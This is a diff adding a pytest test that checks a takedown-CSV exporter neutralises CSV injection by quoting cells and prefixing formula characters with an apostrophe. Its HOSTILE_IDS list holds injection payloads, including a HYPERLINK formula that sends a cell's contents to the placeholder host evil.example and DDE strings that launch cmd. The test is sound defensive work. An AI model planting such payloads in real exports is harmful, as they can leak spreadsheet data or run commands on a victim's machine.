@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import hashlib
 from pathlib import Path
 
@@ -138,3 +139,38 @@ def test_bad_arguments_fail_clearly_without_trace(snapshot, db, tmp_path, capsys
 def test_missing_snapshot_is_a_clear_error(tmp_path, db, capsys):
     assert _flag(tmp_path / "nope", db, "--min-score", "0.5", "--dry-run") == 2
     assert "does not exist" in capsys.readouterr().err
+
+
+HOSTILE_IDS = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\tTAB=1+1",
+    "\rCR=1+1",
+)
+
+
+def test_csv_cells_cannot_run_as_formulas(snapshot, db, tmp_path):
+    """OWASP CSV injection: cells starting with = + - @ tab CR are prefixed with ' and
+    every text cell is quoted, so a spreadsheet shows them as text."""
+    hostile = tmp_path / "snap"
+    hostile.mkdir()
+    for f in snapshot.iterdir():
+        (hostile / f.name).write_bytes(f.read_bytes())
+    members = read_table(snapshot, "members")
+    top = _clusters(snapshot)["cluster_id"][0]
+    originals = members.filter(pl.col("cluster_id") == top)["actor_id"].to_list()
+    rename = dict(zip(originals, HOSTILE_IDS, strict=False))
+    for table in ("members", "actors"):
+        frame = read_table(snapshot, table).with_columns(pl.col("actor_id").replace(rename))
+        frame.write_parquet(hostile / f"{table}.parquet")
+    out = tmp_path / "takedown.csv"
+    assert _flag(hostile, db, "--min-score", "0", "--out", str(out)) == 0
+    text = out.read_bytes().decode()
+    for actor in rename.values():
+        quoted = actor.replace('"', '""')
+        assert f'"\'{quoted}"' in text, actor
+    with out.open(newline="") as fh:
+        cells = [c for row in csv.reader(fh) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
